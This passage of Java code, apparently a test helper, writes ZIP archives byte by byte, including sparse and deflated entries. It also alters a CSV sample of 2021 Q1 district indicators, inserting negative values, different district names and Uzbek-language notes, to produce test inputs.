            return out.toByteArray();
        }

        void write(Path file) throws IOException {
            try (FileChannel channel = FileChannel.open(file, StandardOpenOption.CREATE_NEW, StandardOpenOption.WRITE)) {
                write(new Sink() {
                    @Override
                    public void write(ByteBuffer buffer) throws IOException {
                        while (buffer.hasRemaining()) {
                            channel.write(buffer);
                        }
                    }

                    @Override
                    public void skip(long n) throws IOException {
                        channel.position(channel.position() + n);
                    }

                    @Override
                    public long position() throws IOException {
                        return channel.position();
                    }
                });
            }
        }

        private interface Sink {
            void write(ByteBuffer buffer) throws IOException;

            void skip(long n) throws IOException;

            long position() throws IOException;
        }

        private void write(Sink sink) throws IOException {
            // DOS time and date of 1980-01-01 00:00, as reproducible writers use.
            int time = 0;
            int date = (1 << 5) | 1;
            List<Long> offsets = new ArrayList<>();
            for (Entry e : entries) {
                offsets.add(sink.position());
                byte[] name = e.name().getBytes(StandardCharsets.UTF_8);
                ByteBuffer header = le(30 + name.length);
                header.putInt(0x04034b50).putShort((short) 20).putShort((short) (e.flags() | 0x0800))
                        .putShort((short) e.method()).putShort((short) time).putShort((short) date)
                        .putInt((int) e.crc()).putInt((int) e.compressedSize()).putInt((int) e.size())
                        .putShort((short) name.length).putShort((short) 0).put(name);
                sink.write(header.flip());
                if (e.sparseZeros() > 0) {
                    sink.skip(e.sparseZeros());
                } else {
                    sink.write(ByteBuffer.wrap(e.data()));
                }
            }
            long directoryStart = sink.position();
            for (int i = 0; i < entries.size(); i++) {
                Entry e = entries.get(i);
                byte[] name = e.name().getBytes(StandardCharsets.UTF_8);
                ByteBuffer header = le(46 + name.length);
                header.putInt(0x02014b50).putShort((short) (3 << 8 | 20)).putShort((short) 20)
                        .putShort((short) (e.flags() | 0x0800)).putShort((short) e.method()).putShort((short) time)
                        .putShort((short) date).putInt((int) e.crc()).putInt((int) e.compressedSize())
                        .putInt((int) e.size()).putShort((short) name.length).putShort((short) 0).putShort((short) 0)
                        .putShort((short) 0).putShort((short) 0).putInt(e.unixMode() << 16)
                        .putInt((int) (long) offsets.get(i)).put(name);
                sink.write(header.flip());
            }
            long directorySize = sink.position() - directoryStart;
            ByteBuffer end = le(22);
            end.putInt(0x06054b50).putShort((short) 0).putShort((short) 0).putShort((short) entries.size())
                    .putShort((short) entries.size()).putInt((int) directorySize).putInt((int) directoryStart)
                    .putShort((short) 0);
            sink.write(end.flip());
        }

        private static ByteBuffer le(int size) {
            return ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
        }

        private static byte[] deflateSegment(byte[] content, boolean last) {
            Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
            try {
                deflater.setInput(content);
                ByteArrayOutputStream out = new ByteArrayOutputStream(Math.max(64, content.length / 8));
                byte[] buffer = new byte[64 * 1024];
                if (last) {
                    deflater.finish();
                    while (!deflater.finished()) {
                        out.write(buffer, 0, deflater.deflate(buffer));
                    }
                } else {
                    while (true) {
                        int n = deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH);
                        out.write(buffer, 0, n);
                        if (n < buffer.length && deflater.needsInput()) {
                            break;
                        }
                    }
                }
                return out.toByteArray();
            } finally {
                deflater.end();
            }
        }
    }

    // ------------------------------------------------------------------------------------------------
    // Long-form CSV

    /** The long CSV sample (Kattaqo'rg'on, 2021 Q1) with 5.9 = -5 and a note of its own. */
    private List<String> csvNegative(String marker) {
        List<String> lines = new ArrayList<>(csv);
        replaceValue(lines, "5.9", "count", "-5");
        setNote(lines, "4.6", "Ҳолат " + marker + " " + run);
        return lines;
    }

    private List<String> csvWithDistrict(String district, String marker) {
        List<String> lines = new ArrayList<>();
        for (String line : csv) {
            lines.add(line.startsWith(DISTRICT + ";") ? district + line.substring(DISTRICT.length()) : line);
        }
        setNote(lines, "4.6", "Ҳолат " + marker + " " + run);
        return lines;
    }

    /** The note of a done / not done line already there (a second line for the row would be a finding of its own). */
    private static void setNote(List<String> lines, String indicator, String note) {
        String key = ";2021;1;" + indicator + ";done;";
        for (int i = 0; i < lines.size(); i++) {
            String line = lines.get(i);
            int at = line.indexOf(key);
            if (at > 0) {
                int noteStart = line.indexOf(';', at + key.length()) + 1;
                lines.set(i, line.substring(0, noteStart) + csvField(note));
                return;
            }
        }
        throw new IllegalStateException("no done line for " + indicator);
    }

    private static String csvField(String value) {
        return value.matches("[^;\"\r\n]*") ? value : "\"" + value.replace("\"", "\"\"") + "\"";
    }

    private static void replaceValue(List<String> lines, String indicator, String measure, String value) {
        String key = ";2021;1;" + indicator + ";" + measure + ";";
        for (int i = 0; i < lines.size(); i++) {
            String line = lines.get(i);
            int at = line.indexOf(key);
            if (at > 0) {
                int valueStart = at + key.length();
                int valueEnd = line.indexOf(';', valueStart);
                lines.set(i, line.substring(0, valueStart) + csvField(value) + line.substring(valueEnd));
                return;
            }
        }
        throw new IllegalStateException("no CSV line for " + indicator + " " + measure);
    }

    private static byte[] csvBytes(List<String> lines) {
        return withBom(String.join("\r\n", lines) + "\r\n", StandardCharsets.UTF_8,
                new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
    }

    private static byte[] withBom(String text, Charset charset, byte[] bom) {
        byte[] body = text.getBytes(charset);
        byte[] out = Arrays.copyOf(bom, bom.length + body.length);
        System.arraycopy(body, 0, out, bom.length, body.length);
        return out;
    }
}
